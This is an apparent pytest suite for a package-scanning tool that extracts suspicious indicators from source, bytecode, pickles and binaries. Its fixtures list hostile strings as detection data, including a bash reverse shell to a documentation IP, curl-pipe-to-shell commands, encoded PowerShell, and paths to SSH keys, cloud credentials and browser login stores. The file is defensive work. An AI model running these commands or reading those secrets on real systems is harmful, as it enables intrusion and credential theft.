from __future__ import annotations

import base64
import marshal
import pickle
import random
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pydepgate.limits import MAX_INDICATORS
from pydepgate.model import Indicator
from pydepgate.payload.classify import Kind, classify
from pydepgate.payload.indicators import HEAD_BYTES, indicators
from pydepgate.payload.patterns import PATTERNS, REACH

PYTHON = Kind("python-source")
BASE64 = base64.b64encode(random.Random(1).randbytes(300)).decode()


def found(text: str, kind: Kind = PYTHON) -> list[tuple[str, str]]:
    return [(one.kind, one.value) for one in indicators(text.encode(), kind)]


def values(text: str, name: str, kind: Kind = PYTHON) -> list[str]:
    return [value for one, value in found(text, kind) if one == name]


@pytest.mark.parametrize(
    ("text", "modules"),
    [
        ("import os", ["os"]),
        ("import os, sys as s, a.b\n", ["os", "sys", "a.b"]),
        ("from urllib.request import urlopen\n", ["urllib.request"]),
        ("from . import x\nfrom ..a import (\n  b)\n", [".", "..a"]),
        ("import os;import sys; x()", ["os", "sys"]),
        ("try: import json\nexcept: import simplejson\n", ["json", "simplejson"]),
        ("def f():\n\timport ssl # comment\n", ["ssl"]),
        ("x = __import__('zlib').decompress(d)", ["zlib"]),
        ("importlib.import_module( 'a.b' )", ["a.b"]),
        ('f("import os;import re")', ["os", "re"]),
        ("import os\nimport os\n", ["os"]),
        ("important = 1\n# important import\nx = 'to import a thing from there'\n", []),
    ],
)
def test_imports(text: str, modules: list[str]) -> None:
    assert values(text, "import") == modules


def test_offsets_point_at_the_value() -> None:
    text = "import subprocess\nimport tempfile, os\nsubprocess.Popen(['x'])\nopen('/etc/passwd')\nurl = 'http://a.example/x'\n"
    data = text.encode()
    results = indicators(data, PYTHON)
    assert [one.value for one in results if one.kind == "import"] == ["subprocess", "tempfile", "os"]
    assert all(data[one.offset :].startswith(one.value.encode()) for one in results)
    assert list(results) == sorted(results, key=lambda one: one.offset)


FINDS = [
    ("process", "os.system", "os.system('x')"),
    ("process", "subprocess.check_output", "subprocess.check_output(['x'])"),
    ("process", "Popen", "Popen(['x'])"),
    ("process", "os.execvp", "os.execvp('x', [])"),
    ("process", "pty.spawn", "pty.spawn('/bin/sh')"),
    ("process", "WinExec", "ctypes.windll.kernel32.WinExec(b'x', 0)"),
    ("process", "CreateProcessW", "k.CreateProcessW(None)"),
    ("exec", "exec", "exec(code)"),
    ("exec", "eval", "builtins.eval(code)"),
    ("exec", "marshal.loads", "marshal.loads(x)"),
    ("network", "urllib.request.urlopen", "urllib.request.urlopen(u)"),
    ("network", "urlretrieve", "urlretrieve(u)"),
    ("network", "requests.post", "requests.post(u)"),
    ("network", "socket.socket", "s = socket.socket()"),
    ("network", "curl", "x = 'curl -s http://a.example'"),
    ("network", "URLDownloadToFileA", "urlmon.URLDownloadToFileA(0)"),
    ("url", "https://a.example/b?c=d", "u = 'https://a.example/b?c=d'"),
    ("domain", "evil-host.xyz", "h = 'evil-host.xyz'"),
    ("ip", "192.0.2.7", "h = '192.0.2.7'"),
    ("ip", "2001:db8::1", "h = '2001:db8::1'"),
    ("port", "4444", "s.connect(('192.0.2.7', 4444))"),
    ("port", "8080", "u = 'http://192.0.2.7:8080/a'"),
    ("path", "/etc/passwd", "open('/etc/passwd')"),
    ("path", "/etc/shadow", "open('/etc/shadow')"),
    ("path", ".ssh/id_rsa", "p = '~/.ssh/id_rsa'"),
    ("path", "id_ed25519", "p = join('.ssh', 'id_ed25519')"),
    ("path", ".aws/credentials", "p = '~/.aws/credentials'"),
    ("path", ".kube/config", "p = home + '/.kube/config'"),
    ("path", ".docker/config.json", "p = '.docker/config.json'"),
    ("path", ".npmrc", "p = '~/.npmrc'"),
    ("path", ".git-credentials", "p = '.git-credentials'"),
    ("path", ".env", "walk('.env')"),
    ("path", "Login Data", "p = 'Default/Login Data'"),
    ("path", "Local State", "p = 'User Data/Local State'"),
    ("path", "wallet.dat", "p = 'wallet.dat'"),
    ("path", "nkbihfbeogaeaoehlefnkodbefgpgknn", "i = 'nkbihfbeogaeaoehlefnkodbefgpgknn'"),
    ("path", "tdata", "p = 'Telegram Desktop/tdata'"),
    ("path", "/Library/LaunchAgents", "p = '~/Library/LaunchAgents/a.plist'"),
    ("path", "docker.sock", "p = 'x/docker.sock'"),
    ("path", "169.254.169.254", "u = 'http://169.254.169.254/latest'"),
    (
        "path",
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "p = '/var/run/secrets/kubernetes.io/serviceaccount/token'",
    ),
    (
        "path",
        r"Software\Microsoft\Windows\CurrentVersion\Run",
        r"k = r'Software\Microsoft\Windows\CurrentVersion\Run'",
    ),
    ("environment", "HOME_X", "os.environ['HOME_X']"),
    ("environment", "lower_x", 'os.environ.get("lower_x")'),
    ("environment", "SOME_X", "os.getenv('SOME_X', '')"),
    ("environment", "APPDATA", "x = '%APPDATA%'"),
    ("environment", "AWS_SECRET_ACCESS_KEY", "names = ['AWS_SECRET_ACCESS_KEY']"),
    ("environment", "GITHUB_TOKEN", "# GITHUB_TOKEN"),
    ("environment", "OPENAI_API_KEY", "x = 'OPENAI_API_KEY'"),
    ("token", "AKIA" + "Q" * 16, f"k = 'AKIA{'Q' * 16}'"),
    ("token", "ghp_" + "a1" * 18, f"k = 'ghp_{'a1' * 18}'"),
    ("token", "123456789:AA" + "b" * 33, f"k = '123456789:AA{'b' * 33}'"),
    ("webhook", "https://discord.com/api/webhooks/1/ab", "u = 'https://discord.com/api/webhooks/1/ab'"),
    ("webhook", "https://api.telegram.org/bot1:x/sendMessage", "u = 'https://api.telegram.org/bot1:x/sendMessage'"),
    ("webhook", "hooks.slack.com/services/T0/B0/x", "u = 'hooks.slack.com/services/T0/B0/x'"),
    ("webhook", "webhook.site", "u = 'http://webhook.site/1'"),
    ("webhook", "oastify.com", "u = 'abc.oastify.com'"),
    ("shell", "| bash", "c = 'curl http://a.example | bash'"),
    ("shell", "chmod +x", "c = 'chmod +x /tmp/a'"),
    ("shell", "bash -i", "c = 'bash -i >& /dev/tcp/192.0.2.7/443 0>&1'"),
    ("shell", "powershell -enc", "c = 'powershell -enc SQBF'"),
    ("shell", "schtasks /create", "c = 'schtasks /create /tn a'"),
    ("shell", "reg add", "c = 'reg add HKCU'"),
    ("encoding", "base64, 400 characters", f"d = '{BASE64}'"),
    ("encoding", "hex, 80 characters", f"d = '{'0123456789abcdef' * 5}'"),
    ("encoding", "escape, 128 characters", "d = '" + r"\x41" * 32 + "'"),
]


@pytest.mark.parametrize(("kind", "value", "text"), FINDS, ids=lambda value: str(value)[:30])
def test_finds(kind: str, value: str, text: str) -> None:
    assert (kind, value) in found(text)


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("domain", "os.path.join(a.io, self.me)\nlogger.info('x')\nopen('setup.py')\nx = 'os.path'\n"),
        ("domain", "u = 'https://a.com/b'"),
        ("ip", "__version__ = '1.2.3.4'\nrequires = 'a==1.2.3.4'\n"),
        ("ip", "x = '300.1.1.1'; y = '1.2.3.4.5'; z = a[::2]"),
        ("process", "process = system(x)\ncos.system = 1\n"),
        ("exec", "def compile(x): pass\nre.compile('x')\nmodel.eval()\n"),
        ("encoding", "p = '/usr/lib/python3/dist-packages/some/long/path/that/goes/on/and/on/and/on/file'"),
        ("encoding", f"d = '{'=' * 90}{'a' * 90}'"),
        ("environment", "SOME_CONSTANT = 1\nTOKENS = 3\n"),
        ("path", "def environment(): return profile.envoy\n"),
    ],
)
def test_finds_nothing(kind: str, text: str) -> None:
    assert values(text, kind) == []


def test_case_does_not_hide_windows_names() -> None:
    assert ("shell", "PoWeRsHeLl -EnC") in found("PoWeRsHeLl -EnC SQBF", Kind("batch"))
    assert ("network", "INVOKE-WEBREQUEST") in found("INVOKE-WEBREQUEST -Uri x", Kind("powershell"))


def test_pem_block_is_one_indicator() -> None:
    body = base64.b64encode(bytes(range(256)) * 2).decode()
    data = f'KEY = """-----BEGIN CERTIFICATE-----\n{body}\n-----END CERTIFICATE-----"""\n'.encode()
    results = indicators(data, PYTHON)
    assert results == (Indicator("pem", "certificate, 512 bytes DER", 9),)


def test_bytecode_names_and_constants() -> None:
    code = compile("import subprocess\nexec(x)\nurl = 'http://a.example/b'\nkey = b'/etc/shadow'\n", "x.py", "exec")
    data = marshal.dumps(code)
    results = {(one.kind, one.value): one.offset for one in indicators(data, classify(data))}
    assert {("import", "subprocess"), ("exec", "exec"), ("url", "http://a.example/b"), ("path", "/etc/shadow")} <= set(
        results
    )
    assert data[results["url", "http://a.example/b"] :].startswith(b"http://a.example/b")


def test_pickle_globals() -> None:
    data = b"cos\nsystem\n(S'curl http://a.example/b | sh'\ntR."
    results = indicators(data, classify(data))
    assert {("import", "os"), ("process", "os.system"), ("shell", "| sh")} <= {(one.kind, one.value) for one in results}


def test_a_pickle_of_data_has_none() -> None:
    data = pickle.dumps({"a": ["words", 1]})
    assert indicators(data, classify(data)) == ()


def test_native_programs_are_searched_too() -> None:
    data = b"\x7fELF" + bytes(60) + b"\0http://a.example/b\0/etc/shadow\0" + bytes(40)
    assert {"http://a.example/b", "/etc/shadow"} <= {one.value for one in indicators(data, Kind("elf"))}


def test_junk_cannot_push_out_what_tells() -> None:
    junk = "".join(f"u = 'http://a{number}.example/'\n" for number in range(5000))
    text = junk + "import socket\nos.system('x')\n'/etc/shadow'\nu = 'http://last.example/'\n"
    results = found(text)
    assert len(results) == MAX_INDICATORS
    assert {
        ("import", "socket"),
        ("process", "os.system"),
        ("path", "/etc/shadow"),
        ("url", "http://last.example/"),
        ("url", "http://a0.example/"),
    } <= set(results)


def test_padding_cannot_push_out_the_end() -> None:
    text = " " * (2 * HEAD_BYTES) + "\nos.system('x')\n"
    (one,) = indicators(text.encode(), PYTHON)
    assert (one.value, one.offset) == ("os.system", 2 * HEAD_BYTES + 1)


@pytest.mark.parametrize(
    "unit",
    [
        "a",
        "a.",
        "1,",
        "a/b",
        "import a,",
        "http://",
        " ",
        "1.",
        "A_",
        "a-",
        "eyJaaaaaaaaaaa.",
        "\\x41",
        "1 , ",
        "((",
        "x:1",
        "%a",
        "| ",
    ],
)
def test_long_adversarial_lines(unit: str) -> None:
    # Each would take minutes with a pattern that is not linear.
    indicators((unit * (300_000 // len(unit))).encode(), PYTHON)


@given(st.binary(max_size=300), st.sampled_from(["python-source", "text", "pe", "marshal", "pickle", "json", "binary"]))
def test_never_raises_and_keeps_its_promises(data: bytes, name: str) -> None:
    results = indicators(data, Kind(name))
    assert len(results) <= MAX_INDICATORS
    assert len({(one.kind, one.value) for one in results}) == len(results)
    assert all(0 <= one.offset <= len(data) for one in results)


@given(st.lists(st.sampled_from([text for _, _, text in FINDS]), max_size=12))
def test_order_and_uniqueness(lines: list[str]) -> None:
    results = indicators("\n".join(lines).encode(), PYTHON)
    assert [one.offset for one in results] == sorted(one.offset for one in results)
    assert len({(one.kind, one.value) for one in results}) == len(results)


def test_no_match_of_a_pattern_with_needles_reaches_further_than_is_searched() -> None:
    for pattern in PATTERNS:
        if pattern.needles:
            longest = re._parser.parse(pattern.regex.pattern).getwidth()[1]  # type: ignore[attr-defined]
            assert longest <= REACH, pattern


@pytest.mark.parametrize("at", [0, 5_000, 70_000, 139_000])
def test_around_rare_needles_all_is_found_that_is_found_in_the_whole(at: int) -> None:
    filler = b"lorem ipsum dolor sit amet\n" * 6_000
    words = b" https://h.example/x Electrum\\wallets curl -o x powershell -enc x discord.com/api/webhooks/1/2 "
    data = filler[:at] + words * 2 + filler[at:]
    for pattern in PATTERNS:
        whole = [match.span() for match in pattern.regex.finditer(data)]
        around = [
            m.span() for low, high in pattern.places(data.lower()) for m in pattern.regex.finditer(data, low, high)
        ]
        assert around == whole, pattern
